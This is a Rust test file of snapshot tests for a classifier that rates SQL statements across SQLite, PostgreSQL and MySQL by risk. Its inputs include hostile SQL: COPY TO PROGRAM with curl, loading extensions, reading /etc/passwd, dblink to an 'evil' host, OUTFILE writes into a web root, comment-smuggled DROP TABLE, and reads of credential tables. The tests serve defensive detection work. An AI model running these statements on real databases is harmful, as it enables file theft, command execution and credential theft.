//! What each database can do beyond the common language.

use super::*;

#[test]
fn what_only_sqlite_does() {
    check(
        SqlDialect::Sqlite,
        &[
            "ATTACH DATABASE '/etc/x.db' AS x",
            "DETACH DATABASE x",
            "VACUUM INTO '/tmp/copy.db'",
            "PRAGMA writable_schema = ON",
            "PRAGMA journal_mode(DELETE)",
            "PRAGMA journal_mode",
            "PRAGMA main.table_info('users')",
            "SELECT load_extension('/tmp/evil.so')",
            "SELECT writefile('/tmp/x', data) FROM t",
            "SELECT readfile('/etc/passwd')",
            "SELECT [a;b] FROM t",
            "INSERT OR REPLACE INTO t VALUES (1)",
        ],
        &expect![[r#"
            ATTACH DATABASE '/etc/x.db' AS x
              HIGH command ATTACH [] Sql(MoreThanRows { verb: "ATTACH" })
            DETACH DATABASE x
              HIGH Unreadable { what: "SQL" } Sql(Unparsed { error: "Expected: an SQL statement, found: DETACH" })
            VACUUM INTO '/tmp/copy.db'
              HIGH Unreadable { what: "SQL" } Sql(Trailing { token: "'/tmp/copy.db'" })
            PRAGMA writable_schema = ON
              HIGH Unreadable { what: "SQL" } Sql(Unparsed { error: "Expected: a concrete value, found: ON at Line: 1, Column: 26" })
            PRAGMA journal_mode(DELETE)
              HIGH command PRAGMA [] Sql(Pragma { name: "journal_mode" })
            PRAGMA journal_mode
              LOW read PRAGMA []
            PRAGMA main.table_info('users')
              LOW read PRAGMA ["users"]
            SELECT load_extension('/tmp/evil.so')
              HIGH command SELECT [] Sql(ReachesBeyond { function: "load_extension" })
            SELECT writefile('/tmp/x', data) FROM t
              HIGH command SELECT ["t"] Sql(ReachesBeyond { function: "writefile" })
            SELECT readfile('/etc/passwd')
              HIGH command SELECT [] Sql(ReachesBeyond { function: "readfile" })
            SELECT [a;b] FROM t
              LOW read SELECT ["t"]
            INSERT OR REPLACE INTO t VALUES (1)
              MEDIUM write REPLACE ["t"]
        "#]],
    );
}

#[test]
fn what_only_postgresql_does() {
    check(
        SqlDialect::Postgresql,
        &[
            "COPY t TO PROGRAM 'curl evil'",
            "COPY t FROM '/etc/passwd'",
            "COPY t TO STDOUT",
            "COPY (DELETE FROM t RETURNING *) TO STDOUT",
            "DO $$ BEGIN DELETE FROM t; END $$",
            "CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql",
            "SET SESSION AUTHORIZATION postgres",
            "LOAD 'evil'",
            "PREPARE p AS DELETE FROM t",
            "EXECUTE p",
            "SELECT * INTO copy_of_t FROM t",
            "EXPLAIN ANALYZE DELETE FROM t WHERE id = 1",
            "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t",
            "EXPLAIN (COSTS false) DELETE FROM t",
            "WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone",
            "SELECT * FROM (WITH x AS (UPDATE t SET a = 1 WHERE b = 2 RETURNING *) SELECT * FROM x) y",
            "TABLE users",
            "NOTIFY c",
            "VACUUM t",
        ],
        &expect![[r#"
            COPY t TO PROGRAM 'curl evil'
              HIGH command COPY ["t"] Sql(MoreThanRows { verb: "COPY" })
            COPY t FROM '/etc/passwd'
              HIGH command COPY ["t"] Sql(MoreThanRows { verb: "COPY" })
            COPY t TO STDOUT
              LOW read COPY ["t"]
            COPY (DELETE FROM t RETURNING *) TO STDOUT
              HIGH write DELETE ["t"] Sql(NoCondition { verb: "DELETE" })
            DO $$ BEGIN DELETE FROM t; END $$
              HIGH Unreadable { what: "SQL" } Sql(Unparsed { error: "Expected: an SQL statement, found: DO" })
            CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql
              HIGH command CREATE [] Sql(MoreThanRows { verb: "CREATE" })
            SET SESSION AUTHORIZATION postgres
              HIGH command SET [] Sql(MoreThanRows { verb: "SET" })
            LOAD 'evil'
              HIGH command LOAD [] Sql(MoreThanRows { verb: "LOAD" })
            PREPARE p AS DELETE FROM t
              HIGH command PREPARE ["t"] Sql(MoreThanRows { verb: "PREPARE" })
            EXECUTE p
              HIGH command EXECUTE [] Sql(MoreThanRows { verb: "EXECUTE" })
            SELECT * INTO copy_of_t FROM t
              HIGH command SELECT INTO ["t"] Sql(StoresElsewhere)
            EXPLAIN ANALYZE DELETE FROM t WHERE id = 1
              MEDIUM write DELETE ["t"]
            EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t
              HIGH write DELETE ["t"] Sql(NoCondition { verb: "DELETE" })
            EXPLAIN (COSTS false) DELETE FROM t
              HIGH write DELETE ["t"] Sql(NoCondition { verb: "DELETE" })
            WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone
              HIGH write DELETE ["gone", "users"] Sql(NoCondition { verb: "DELETE" })
            SELECT * FROM (WITH x AS (UPDATE t SET a = 1 WHERE b = 2 RETURNING *) SELECT * FROM x) y
              MEDIUM write UPDATE ["t", "x"]
            TABLE users
              HIGH Unreadable { what: "SQL" } Sql(Unparsed { error: "Expected: an SQL statement, found: TABLE" })
            NOTIFY c
              HIGH command NOTIFY [] Sql(MoreThanRows { verb: "NOTIFY" })
            VACUUM t
              HIGH command VACUUM [] Sql(MoreThanRows { verb: "VACUUM" })
        "#]],
    );
}

#[test]
fn a_read_is_only_as_harmless_as_the_functions_it_calls() {
    check(
        SqlDialect::Postgresql,
        &[
            "SELECT pg_read_file('/etc/passwd')",
            "SELECT * FROM pg_ls_dir('/')",
            "SELECT pg_catalog.lo_import('/etc/passwd')",
            "SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)",
            "SELECT pg_terminate_backend(1)",
            "SELECT nextval('seq'), setval('seq', 1)",
            "SELECT pg_sleep(100)",
            "SELECT query_to_xml('DELETE FROM t', true, true, '')",
            "SELECT my_own_function()",
            "SELECT public.count(1)",
            "SELECT \"Count\"(1)",
            "SELECT 1 OPERATOR(evil.+) 2",
            "SELECT passwd FROM pg_shadow",
            "SELECT a::text, $1, data->>'x' FROM t WHERE tags @> '{a}'",
            "INSERT INTO t VALUES (my_own_function())",
        ],
        &expect![[r#"
            SELECT pg_read_file('/etc/passwd')
              HIGH command SELECT [] Sql(ReachesBeyond { function: "pg_read_file" })
            SELECT * FROM pg_ls_dir('/')
              HIGH command SELECT ["pg_ls_dir"] Sql(ReachesBeyond { function: "pg_ls_dir" })
            SELECT pg_catalog.lo_import('/etc/passwd')
              HIGH command SELECT [] Sql(ReachesBeyond { function: "pg_catalog.lo_import" })
            SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)
              HIGH command SELECT ["dblink"] Sql(ReachesBeyond { function: "dblink" })
            SELECT pg_terminate_backend(1)
              HIGH command SELECT [] Sql(ReachesBeyond { function: "pg_terminate_backend" })
            SELECT nextval('seq'), setval('seq', 1)
              HIGH command SELECT [] Sql(ReachesBeyond { function: "nextval" })
            SELECT pg_sleep(100)
              HIGH command SELECT [] Sql(ReachesBeyond { function: "pg_sleep" })
            SELECT query_to_xml('DELETE FROM t', true, true, '')
              HIGH command SELECT [] Sql(ReachesBeyond { function: "query_to_xml" })
            SELECT my_own_function()
              MEDIUM command SELECT [] Sql(UnknownFunction { function: "my_own_function" })
            SELECT public.count(1)
              MEDIUM command SELECT [] Sql(UnknownFunction { function: "public.count" })
            SELECT "Count"(1)
              MEDIUM command SELECT [] Sql(UnknownFunction { function: "\"Count\"" })
            SELECT 1 OPERATOR(evil.+) 2
              MEDIUM command SELECT [] Sql(Unproven { what: "OPERATOR(evil.+)" })
            SELECT passwd FROM pg_shadow
              HIGH read SELECT ["pg_shadow"] Sql(HoldsCredentials { table: "pg_shadow" })
            SELECT a::text, $1, data->>'x' FROM t WHERE tags @> '{a}'
              LOW read SELECT ["t"]
            INSERT INTO t VALUES (my_own_function())
              MEDIUM command INSERT ["t"] Sql(UnknownFunction { function: "my_own_function" })
        "#]],
    );
}

#[test]
fn what_only_mysql_does() {
    check(
        SqlDialect::Mysql,
        &[
            "SELECT * FROM t INTO OUTFILE '/var/www/x.php'",
            "SELECT 'x' INTO DUMPFILE '/tmp/x'",
            "SELECT load_file('/etc/passwd')",
            "LOAD DATA INFILE '/etc/passwd' INTO TABLE t",
            "SELECT SLEEP(10)",
            "SELECT 1 /*!50000 ; DROP TABLE t */",
            "SELECT /*!99999 1 */ 2",
            "SELECT 1 # DROP TABLE t",
            "SELECT 1 --DROP",
            "SELECT 'a\\' ; DROP TABLE t -- '",
            "SET GLOBAL general_log = 1",
            "DELETE a FROM a JOIN b ON a.id = b.id WHERE b.x = 1",
            "SELECT * FROM mysql.user",
            "KILL 7",
            "RENAME TABLE a TO b",
        ],
        &expect![[r#"
            SELECT * FROM t INTO OUTFILE '/var/www/x.php'
              HIGH Unreadable { what: "SQL" } Sql(Trailing { token: "OUTFILE" })
            SELECT 'x' INTO DUMPFILE '/tmp/x'
              HIGH Unreadable { what: "SQL" } Sql(Trailing { token: "'/tmp/x'" })
            SELECT load_file('/etc/passwd')
              HIGH command SELECT [] Sql(ReachesBeyond { function: "load_file" })
            LOAD DATA INFILE '/etc/passwd' INTO TABLE t
              HIGH Unreadable { what: "SQL" } Sql(Unparsed { error: "Expected: `DATA` or an extension name after `LOAD`, found: INFILE at Line: 1, Column: 11" })
            SELECT SLEEP(10)
              HIGH command SELECT [] Sql(ReachesBeyond { function: "SLEEP" })
            SELECT 1 /*!50000 ; DROP TABLE t */
              HIGH Unreadable { what: "SQL" } Sql(ExecutableComment)
            SELECT /*!99999 1 */ 2
              HIGH Unreadable { what: "SQL" } Sql(ExecutableComment)
            SELECT 1 # DROP TABLE t
              LOW read SELECT []
            SELECT 1 --DROP
              LOW read SELECT []
            SELECT 'a\' ; DROP TABLE t -- '
              HIGH Unreadable { what: "SQL" } Sql(EscapedQuote)
            SET GLOBAL general_log = 1
              HIGH command SET [] Sql(MoreThanRows { verb: "SET" })
            DELETE a FROM a JOIN b ON a.id = b.id WHERE b.x = 1
              HIGH write DELETE ["a", "b"] Sql(NoCondition { verb: "DELETE" })
            SELECT * FROM mysql.user
              HIGH read SELECT ["mysql.user"] Sql(HoldsCredentials { table: "mysql.user" })
            KILL 7
              HIGH command KILL [] Sql(MoreThanRows { verb: "KILL" })
            RENAME TABLE a TO b
              HIGH command RENAME ["a"] Sql(MoreThanRows { verb: "RENAME" })
        "#]],
    );
}
